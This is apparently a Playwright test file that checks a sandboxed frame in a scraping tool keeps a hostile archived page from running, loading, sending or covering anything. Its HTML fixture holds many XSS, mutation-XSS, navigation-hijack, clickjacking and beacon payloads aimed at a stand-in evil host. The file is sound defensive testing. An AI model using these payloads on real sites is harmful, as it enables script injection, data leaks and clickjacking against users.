"""A hostile archived page in point and teach: it runs nothing, loads nothing, sends nothing and covers nothing of ours.

Three things keep it so, each tested alone: the page is written anew without what could act, the policy of the frame
forbids all of it once more, and the frame has an origin of its own.
"""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass

import pytest
from playwright.async_api import Frame, Page, Route, expect

from lamplighter.model.source import Source
from lamplighter.operations.sources import sources
from tests.browser.crawled_source import crawled
from tests.browser.window import Window
from tests.origin import Origin
from tests.service.installation import Installation

#: {evil} is a server that must never be asked for anything
HOSTILE = """<!doctype html><html lang=en onclick="hit('html')"><head><title>Jobs</title>
<meta http-equiv="refresh" content="1;url={evil}/refreshed"><base href="{evil}/" target="_top">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<link rel=stylesheet href="{evil}/sheet.css"><link rel=preload as=image href="{evil}/preload.png">
<link rel=icon href="{evil}/icon.png"><script src="{evil}/script.js"></script>
<script>function hit(what) {{ top.hits = (top.hits || "") + what; new Image().src = "{evil}/hit?" + what }}
hit("script"); setInterval(() => {{ top.location = "{evil}/top"; open("{evil}/popup"); alert(1);
document.forms[0] && document.forms[0].submit(); fetch("{evil}/fetched"); parent.postMessage({{lamp: "<b>"}}, "*");
parent.document.title = "taken over" }}, 50)</script>
<style>@import "{evil}/import.css"; @font-face {{ font-family: x; src: url({evil}/font.woff) }}
body {{ font-family: x; background: url({evil}/background.png) }}
.cover {{ position: fixed; inset: -9999px; z-index: 2147483647; background: rgb(255 0 0 / 30%); pointer-events: auto }}
* {{ background-image: url("{evil}/star.png") }}</style></head>
<body onload="hit('load')" onmousemove="hit('move')">
<svg onload="hit('svg')"><script>hit('svg script')</script><image href="{evil}/svg.png"/>
<foreignObject><iframe src="{evil}/svg-frame"></iframe></foreignObject>
<animate onbegin="hit('begin')" attributeName=x dur=1s></animate>
<a xlink:href="javascript:hit('xlink')"><text y=20>svg</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img
title="--&gt;&lt;img src=x onerror=hit('mutation')&gt;"></mglyph></table></mtext></math>
<iframe src="{evil}/frame"></iframe><iframe srcdoc="<script>parent.hit('srcdoc')</script>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed">
<video src="{evil}/video.mp4" poster="{evil}/poster.png" autoplay></video>
<img src="{evil}/picture.png" onerror="hit('error')" onload="hit('loaded')"><img srcset="{evil}/set.png 2x" src=x>
<picture><source srcset="{evil}/source.png"><img src="{evil}/fallback.png"></picture>
<input type=image src="{evil}/input.png" autofocus onfocus="hit('focus')">
<form action="{evil}/form" method=post><input name=a value=b>
<button onclick="hit('button')" formaction="{evil}/formaction">Send</button></form>
<details open ontoggle="hit('toggle')"><summary>Summary</summary></details><marquee onstart="hit('marquee')">m</marquee>
<template><img src="{evil}/template.png"></template><noscript><img src="{evil}/noscript.png"></noscript>
<div style="background:url({evil}/style.png);width:99999px;height:20px" onclick="hit('div')">wide</div>
<ul>{rows}</ul><p><a href="javascript:hit('link')">Run</a> <a href="{evil}/away" target=_top>Away</a>
<a href="{evil}/pinged" ping="{evil}/ping">Ping</a></p>
<div class=cover id=cover onclick="hit('cover')"></div><script>hit("late")</script></body></html>"""
ROWS = "".join(
    f'<li class=job><div class=t onclick="hit({n})">Keeper of lamp {n}</div><a href="/job/{n}">Details</a></li>'
    for n in range(1, 6)
)


@dataclass(frozen=True, slots=True)
class Attack:
    """A source whose archived page is hostile."""

    source: Source
    evil: Origin
    html: str

    @property
    def path(self) -> str:
        return f"/sources/{self.source.public_id}/teach"


@asynccontextmanager
async def _attack(installation: Installation) -> AsyncIterator[Attack]:
    async with Origin() as evil, Origin() as site:
        html = HOSTILE.format(evil=evil.url, rows=ROWS)
        site.page("/jobs", html)
        source = await crawled(installation, f"{site.url}/jobs", name="Hostile", kind="job", max_depth=0)
        evil.log.clear()
        yield Attack(source, evil, html)


def _archived(page: Page) -> Frame:
    (_, *frames) = page.frames
    return frames[0]


async def _recipe_of(installation: Installation, attack: Attack) -> object:
    async with installation.service.db.read() as db:
        return (await sources.find_by_url(db, attack.source.url)).recipe


async def test_a_hostile_page_runs_loads_and_sends_nothing(installation: Installation, window: Window) -> None:
    dialogs: list[str] = []
    window.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    window.page.on("popup", lambda _: dialogs.append("a window"))
    async with _attack(installation) as attack:
        page = await window.open(attack.path)
        frame = _archived(page)
        await expect(frame.get_by_text("Keeper of lamp 2")).to_be_attached()
        for name in ("Run", "Away", "Ping", "Send", "Summary", "wide"):
            await frame.get_by_text(name, exact=True).dispatch_event("click")
        await page.wait_for_timeout(1500)

        assert await page.evaluate("window.hits") is None
        assert await frame.evaluate("typeof hit") == "undefined"
        assert [hit.path for hit in attack.evil.log] == []
        assert dialogs == []
        assert page.url.endswith(attack.path)
        assert "/teach/frame" in _archived(page).url
        assert await _recipe_of(installation, attack) == {}


async def test_a_hostile_page_covers_nothing_of_ours(installation: Installation, window: Window) -> None:
    async with _attack(installation) as attack:
        page = await window.open(attack.path)
        # It lies over its own page, where nobody can press anything: the list and the page without styles go around it.
        # Until the scripts of the page are there, a press may come to nothing.
        await expect(page.get_by_role("tree")).to_be_visible()
        await page.locator("#elements button", has_text="Keeper of lamp 2").click()
        lesson = page.get_by_label("What is read")
        await expect(lesson).to_contain_text("5 rows")
        save = page.get_by_role("button", name="Save as the source's recipe")
        is_on_top = """(node) => { const box = node.getBoundingClientRect();
            return node.contains(document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)) }"""

        assert await save.evaluate(is_on_top)
        assert await page.get_by_label("A click names").evaluate(is_on_top)
        await page.get_by_role("link", name="Without its styles").click()
        await page.wait_for_url("**styles=0*")
        await page.frame_locator("#archived").get_by_text("Keeper of lamp 3").click()
        await expect(page.get_by_label("What is read")).to_contain_text("5 rows")
        await page.get_by_role("button", name="Save as the source's recipe").click()
        await expect(page.get_by_text("The recipe was saved")).to_be_visible()
        assert await _recipe_of(installation, attack) == {
            "items": ".job",
            "fields": {"title": ".t", "url": "a"},
        }
        assert attack.evil.log == []


async def test_the_policy_of_the_frame_alone_stops_a_hostile_page(installation: Installation, window: Window) -> None:
    async with _attack(installation) as attack:

        async def as_it_came(route: Route) -> None:
            await route.fulfill(response=await route.fetch(), body=attack.html)

        await window.page.route("**/teach/frame*", as_it_came)
        page = await window.open(attack.path)
        await expect(_archived(page).get_by_text("Keeper of lamp 2")).to_be_attached()
        await page.wait_for_timeout(1500)

        assert await page.evaluate("window.hits") is None
        assert await page.title() != "taken over"
        assert page.url.endswith(attack.path)
        assert [hit.path for hit in attack.evil.log if hit.path != "/refreshed"] == []
        window.troubles.clear()  # all that it was refused


async def test_the_origin_of_the_frame_alone_keeps_a_hostile_page_in_it(
    installation: Installation, window: Window
) -> None:
    windows: list[str] = []
    window.page.on("popup", lambda opened: windows.append(opened.url))
    window.page.on("dialog", lambda dialog: windows.append(dialog.message))
    async with _attack(installation) as attack:

        async def without_a_policy(route: Route) -> None:
            answer = await route.fetch()
            headers = {name: value for name, value in answer.headers.items() if name != "content-security-policy"}
            html = attack.html.replace("http-equiv", "name")
            await route.fulfill(response=answer, headers=headers, body=html)

        await window.page.route("**/teach/frame*", without_a_policy)
        page = await window.open(attack.path)
        ran = _archived(page)
        await expect(ran.get_by_text("Keeper of lamp 2")).to_be_attached()
        await page.wait_for_timeout(1000)

        assert await ran.evaluate("typeof hit") == "function", "its scripts ran, for nothing else stops them here"
        assert await page.evaluate("window.hits") is None
        assert await page.title() != "taken over"
        assert page.url.endswith(attack.path)
        assert windows == []
        assert not [hit for hit in attack.evil.log if hit.path.startswith(("/form", "/top", "/popup"))]
        assert await _recipe_of(installation, attack) == {}
        window.troubles.clear()  # all that it tried


@pytest.mark.parametrize("path", ["", "/frame"])
async def test_the_frame_is_no_looser_than_it_must_be(installation: Installation, window: Window, path: str) -> None:
    async with _attack(installation) as attack:
        answer = await window.page.goto(attack.path + path)
        assert answer is not None
        policy = answer.headers["content-security-policy"]

        if path:
            assert policy.startswith("sandbox allow-scripts; default-src 'none'; script-src 'sha256-")
            assert "'unsafe-inline'" not in policy.replace("style-src 'unsafe-inline'", "")
            assert "img-src data:;" in policy
            assert "connect-src" not in policy
        else:
            assert await window.page.locator("iframe").get_attribute("sandbox") == "allow-scripts"
            assert "unsafe" not in policy
            assert policy.endswith("frame-src 'self'")
        window.troubles.clear()
